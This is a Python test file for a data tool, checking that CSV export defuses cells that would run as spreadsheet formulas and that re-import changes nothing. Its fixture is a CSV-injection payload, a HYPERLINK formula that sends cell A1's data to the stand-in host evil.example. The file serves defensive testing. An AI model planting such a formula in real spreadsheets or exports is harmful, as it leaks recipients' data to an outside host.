"""A cell that would run as a formula in a spreadsheet (``=HYPERLINK(...)``) is defused on export, and the
defused file imports back to the same values (export then import changes nothing)."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
from sqlalchemy import Engine

from data.csv_io import export_table, import_files
from data.questionnaire import Questionnaire
from data.spreadsheet import neutralise, restore
from data.store import read_table
from tests.conftest import TEST_KEY

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'


def test_neutralise_and_restore_are_inverse() -> None:
    cells = pd.Series([FORMULA, "+31 6", "-", "@x", "gewoon", "'quoted", "'=al"])
    defused = cells.map(neutralise)
    assert not any(str(v).startswith(("=", "+", "-", "@")) for v in defused)
    assert restore(defused).tolist() == cells.tolist()


def test_export_defuses_formulas_and_reimport_changes_nothing(
    store: Engine, tmp_path: Path, small_csv_dir: Path, questionnaire: Questionnaire
) -> None:
    students = pd.read_csv(small_csv_dir / "students.csv", dtype=str)
    students.loc[0, "programme"] = FORMULA
    source = tmp_path / "in" / "students.csv"
    source.parent.mkdir()
    students.to_csv(source, index=False)
    import_files(store, [source], TEST_KEY, questionnaire)
    stored = read_table(store, "students")
    assert FORMULA in set(stored["programme"])

    out = tmp_path / "out" / "students.csv"
    export_table(store, "students", out)
    with out.open(newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert FORMULA not in cells
    assert "'" + FORMULA in cells

    (report,) = import_files(store, [out], TEST_KEY, questionnaire)
    assert (report.inserted, report.updated) == (0, 0)
    assert FORMULA in set(read_table(store, "students")["programme"])
